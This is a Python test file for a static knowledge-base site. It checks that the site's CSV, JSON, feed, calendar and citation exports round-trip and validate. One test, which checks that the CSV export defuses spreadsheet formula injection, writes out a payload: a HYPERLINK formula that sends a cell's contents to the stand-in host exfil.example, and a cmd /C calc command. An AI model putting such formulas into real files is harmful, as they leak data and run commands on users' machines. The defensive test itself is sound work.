"""Open data in the built site: CSV round-trips, JSON validates, the data package is valid."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import bibtexparser
import feedparser
import frictionless
import pytest
from icalendar import Calendar
from jsonschema import Draft202012Validator, FormatChecker
from referencing import Registry, Resource

from cica_kb.load.collections import COLLECTIONS
from cica_kb.load.loader import load_yaml
from cica_kb.outputs.exports import FORMULA_START, csv_text, json_list, json_text
from conftest import DataTree

ROOT = Path(__file__).resolve().parents[1]


def yaml_records(collection: str) -> dict[str, dict]:
    """The records as a contributor wrote them, read independently of the site build."""
    found = {}
    for path in sorted((ROOT / "data" / collection).rglob("*.yml")):
        key = f"{path.parent.name}/{path.stem}" if collection == "practices" else path.stem
        found[key] = load_yaml(str(path), path.read_bytes()).data
    return found


def csv_rows(site: Path, collection: str) -> dict[str, dict[str, str]]:
    with open(site / "data" / f"{collection}.csv", encoding="utf-8-sig", newline="") as handle:
        return {row["id"]: row for row in csv.DictReader(handle)}


def test_practices_csv_round_trips_to_the_yaml_records(site: Path) -> None:
    rows, records = csv_rows(site, "practices"), yaml_records("practices")
    assert rows.keys() == records.keys()
    for key, record in records.items():
        row = rows[key]
        assert row["title"] == record["title"] and row["summary"] == record["summary"]
        assert (row["country"], row["kind"], row["status"], row["provenance"]) == (record["country"].upper(), record["kind"], record["status"], record["provenance"])
        assert row["topics"].split("; ") == record["topics"]
        assert row["year"] == str(record.get("year", ""))
        assert row["sources"].split(" ") == [source["url"] for source in record["sources"]]


def test_meetings_and_states_csv_have_one_row_per_record(site: Path) -> None:
    for collection in ("meetings", "states"):
        rows, records = csv_rows(site, collection), yaml_records(collection)
        assert rows.keys() == records.keys()
        for key, record in records.items():
            assert rows[key]["sources"].split(" ") == [source["url"] for source in record["sources"]]
    assert csv_rows(site, "states")["tr"]["name"] == "Türkiye"
    assert csv_rows(site, "meetings")["2024-03-14-soc"]["decisions"] == "10"


def test_csv_opens_in_a_spreadsheet_as_utf8(site: Path) -> None:
    raw = (site / "data/states.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw


@pytest.mark.parametrize("start", FORMULA_START, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(tree: DataTree, start: str) -> None:
    """CSV injection, made inert as OWASP advises: the cell is text in any spreadsheet; the JSON keeps the exact text."""
    summary = start + 'HYPERLINK("https://exfil.example/?"&A1,"Open") and cmd|\' /C calc\'!A0'
    practice = (tree.data / "practices/kz/law-on-volunteer-activity.yml").read_text(encoding="utf-8")
    tree.write("practices/kz/law-on-volunteer-activity.yml", practice.replace("summary: It sets the aims, forms and support measures for volunteering.", f"summary: {json.dumps(summary)}"))
    kb = tree.load()
    assert kb.get("practices", "kz/law-on-volunteer-activity")["summary"] == summary
    text = csv_text(kb, "practices")
    row = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert row["summary"] == "'" + summary
    assert f',"\'{start}HYPERLINK(' in text  # quoted: a spreadsheet that splits on ";" keeps the cell whole


def test_a_cell_that_only_contains_a_formula_character_later_is_unchanged(tree: DataTree) -> None:
    kb = tree.load()
    row = next(csv.DictReader(io.StringIO(csv_text(kb, "practices").removeprefix("\ufeff"))))
    assert row["title"] == 'Law "On Volunteer Activity"' and row["year"] == "2016" and row["country"] == "KZ"


def test_every_json_file_validates_against_the_published_schemas(site: Path) -> None:
    schemas = {p.name.removesuffix(".schema.json"): json.loads(p.read_text()) for p in (site / "schemas").glob("*.schema.json")}
    registry = Registry().with_resources((s["$id"], Resource.from_contents(s)) for s in schemas.values())
    for collection in COLLECTIONS:
        validator = Draft202012Validator(schemas[collection.schema], registry=registry, format_checker=FormatChecker())
        listing = json.loads((site / "data" / f"{collection.name}.json").read_text(encoding="utf-8"))
        records = yaml_records(collection.name)
        assert len(listing) == len(records)
        for key, record in records.items():
            exported = json.loads((site / "data" / collection.name / f"{key}.json").read_text(encoding="utf-8"))
            assert exported == record
            assert list(validator.iter_errors(exported)) == []


def test_datapackage_is_valid_under_the_frictionless_validator(site: Path) -> None:
    report = frictionless.validate(str(site / "data" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]


def test_practice_feeds_parse_and_carry_each_entry_once_with_stable_ids(site: Path) -> None:
    site_wide = feedparser.parse((site / "feeds/practices.xml").read_bytes())
    assert not site_wide.bozo, site_wide.get("bozo_exception")
    ids = [entry.id for entry in site_wide.entries]
    assert len(ids) == len(set(ids)) == len(yaml_records("practices"))
    kz = next(e for e in site_wide.entries if e.id.endswith("/practices/kz/law-on-volunteer-activity/"))
    assert kz.title == 'Law "On Volunteer Activity" (No. 42-VI)'
    assert kz.published_parsed and kz.updated_parsed
    country = feedparser.parse((site / "feeds/practices/kz.xml").read_bytes())
    assert sorted(e.id.rsplit("/", 2)[-2] for e in country.entries) == ["law-on-volunteer-activity", "taza-qazaqstan", "year-of-the-volunteer-2020"]
    topic = feedparser.parse((site / "feeds/topics/environment.xml").read_bytes())
    assert len(topic.entries) == 3


def test_every_feed_has_an_author_and_distinct_entry_times(site: Path) -> None:
    """The W3C feed validator's rules: an author for every entry, no two entries updated at the same instant."""
    feeds = sorted((site / "feeds").rglob("*.xml"))
    feeds = [path for path in feeds if path.name != "sitemap.xml"]
    assert len(feeds) > 20
    for path in feeds:
        feed = feedparser.parse(path.read_bytes())
        assert not feed.bozo, (path, feed.get("bozo_exception"))
        assert feed.feed.author_detail.name == "CICA Knowledge Base", path
        updated = [entry.updated for entry in feed.entries]
        assert len(updated) == len(set(updated)), f"{path}: two entries with the same updated time"
        assert all(entry.published_parsed <= entry.updated_parsed for entry in feed.entries)


def test_meetings_feed_and_page_links_announce_the_feeds(site: Path) -> None:
    meetings = feedparser.parse((site / "feeds/meetings.xml").read_bytes())
    assert len(meetings.entries) == len(yaml_records("meetings"))
    page = (site / "practices/kz/law-on-volunteer-activity/index.html").read_text(encoding="utf-8")
    for feed in ("feeds/practices.xml", "feeds/practices/kz.xml", "feeds/topics/volunteerism.xml"):
        assert '<link rel="alternate" type="application/atom+xml"' in page and f'href="../../../{feed}"' in page
        assert (site / feed).is_file()


def test_calendar_lists_every_meeting_including_the_planned_summit(site: Path) -> None:
    calendar = Calendar.from_ical((site / "calendar/meetings.ics").read_bytes())
    events = {str(event["uid"]): event for event in calendar.walk("VEVENT")}
    assert len(events) == len(yaml_records("meetings"))
    soc = events["2024-03-14-soc@cica-kb"]
    assert str(soc["summary"]) == "Senior Officials Committee, 14 March 2024"
    assert soc.decoded("dtstart").isoformat() == "2024-03-14" and str(soc["status"]) == "CONFIRMED"
    summit = events["2026-10-summit@cica-kb"]
    assert "Baku" in str(summit["location"]) and str(summit["status"]) == "TENTATIVE"
    assert summit.decoded("dtstart").isoformat() == "2026-10-01" and summit.decoded("dtend").isoformat() == "2026-11-01"
    summit_2022 = events["2022-10-12-summit@cica-kb"]
    assert summit_2022.decoded("dtend").isoformat() == "2022-10-14"  # 12–13 October, exclusive end


SITE_URL = "https://cica-secretariat.github.io/cica-kb/"


def test_every_cite_this_url_resolves_inside_the_built_site(site: Path) -> None:
    cited = 0
    for page in sorted(site.glob("practices/*/*/index.html")) + sorted(site.glob("meetings/*/*/index.html")):
        html = page.read_text(encoding="utf-8")
        section = html[html.index('id="cite-this"'):html.index('id="sources"')]
        url = re.search(r"(https://\S+?/)</p>", section).group(1)
        assert (site / url.removeprefix(SITE_URL) / "index.html") == page
        for download in re.findall(r'href="([^"]+\.(?:bib|json))"', section):
            assert (page.parent / download).resolve().is_file(), download
        cited += 1
    assert cited == len(yaml_records("practices")) + len(yaml_records("meetings"))


def test_citation_downloads_parse_as_bibtex_and_csl_json(site: Path) -> None:
    entry = bibtexparser.loads((site / "cite/practices/kz/law-on-volunteer-activity.bib").read_text(encoding="utf-8")).entries[0]
    assert entry["title"] == 'Law "On Volunteer Activity" (No. 42-VI) (Kazakhstan)'
    assert entry["url"] == SITE_URL + "practices/kz/law-on-volunteer-activity/"
    item = json.loads((site / "cite/meetings/2024-03-14-soc.json").read_text(encoding="utf-8"))[0]
    assert item["type"] == "webpage" and item["URL"] == SITE_URL + "meetings/2024/2024-03-14-soc/"


def test_coverage_matrix_counts_match_the_data_in_alphabetical_order(site: Path) -> None:
    html = (site / "practices/coverage/index.html").read_text(encoding="utf-8")
    table = html[html.index("<table>"):html.index("</table>")]
    rows = re.findall(r"<tr>\s*<td><a href=\"../../states/([a-z]{2})/\">([^<]+)</a></td>(.*?)</tr>", table, re.S)
    assert len(rows) == 28
    names = [name for _, name, _ in rows]
    assert names == sorted(names, key=lambda n: n.replace("ü", "u").casefold())
    practices = yaml_records("practices")
    for code, _, cells in rows:
        total = re.findall(r">(\d+)</td>", cells)[-1]
        assert int(total) == sum(1 for key in practices if key.startswith(f"{code}/"))
    assert 'aria-label="Practices by year"' in html and 'aria-label="Practices by kind"' in html


def test_a_collection_file_is_the_json_of_its_records_list() -> None:
    """The collection and state files are put together from the records' own files: the same text as the list
    written whole, whatever the records hold (line breaks in text, other scripts, empty lists and mappings)."""
    records = [
        {"id": "a", "title": "Закон «О волонтерской деятельности»", "body": "line one\nline two\u2028", "topics": []},
        {"id": "b", "sources": [{"url": "https://example.org/", "notes": {}}], "year": 2024, "share": 0.5},
        {"nested": [[1, [2, {"deep": [None, True]}]]]},
    ]
    for items in (records, records[:1], []):
        assert json_list([json_text(item) for item in items]) == json.dumps(items, ensure_ascii=False, indent=2) + "\n"
